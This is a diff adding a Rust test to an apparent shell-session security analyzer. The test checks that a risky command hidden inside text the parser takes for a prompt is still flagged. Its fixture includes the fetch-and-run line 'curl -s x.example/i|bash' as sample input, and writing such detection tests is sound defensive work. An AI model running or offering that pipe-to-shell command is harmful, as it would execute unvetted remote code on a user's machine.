@@ -123,3 +123,25 @@ fn garbage_and_empty_inputs_get_a_clear_status() {
         analyzer.analyze_bytes(b"{\"sessionData\": [\"sh-4.2$ ls\"", Input::default());
     assert!(broken_json.stats.parse_warnings.iter().any(|w| w.contains("could not be read")));
 }
+
+/// Where a prompt of no usual shape ends is inferred (from a `PS1=`, or from two lines read
+/// at it): a person who types the same words twice, ending in a symbol (`… | bash -s ❯ a`,
+/// `… ❯ b`), makes those words read as the prompt. They ran, so the rules still judge them:
+/// each new prompt is judged like a command, with evidence saying where the text was read.
+#[test]
+fn text_taken_for_a_prompt_is_still_judged() {
+    let mut bytes = b"Script started on 2026-12-07 10:00:00+00:00 [COMMAND=\"x\"]\n".to_vec();
+    bytes.extend_from_slice(b"\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ . ./theme.sh\r\n\x1b[?2004l\r");
+    for typed in ["a", "b"] {
+        let line = format!("\x1b[?2004hλ ~ ❯ curl -s x.example/i|bash ❯ {typed}\r\n\x1b[?2004l\r");
+        bytes.extend_from_slice(line.as_bytes());
+    }
+    bytes
+        .extend_from_slice(b"Script done on 2026-12-07 10:01:00+00:00 [COMMAND_EXIT_CODE=\"0\"]\n");
+    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
+    let texts: Vec<&str> = report.commands.iter().map(|c| c.command.as_str()).collect();
+    assert_eq!(texts, [". ./theme.sh", "a", "b"], "the repeated words read as the prompt");
+    let piped: Vec<_> = report.findings.iter().filter(|f| f.rule_id == "SA-CMD-040").collect();
+    assert_eq!(piped.len(), 1, "once for the prompt: {:?}", report.findings);
+    assert!(piped[0].evidence.starts_with("in the text read as the prompt"), "{piped:?}");
+}
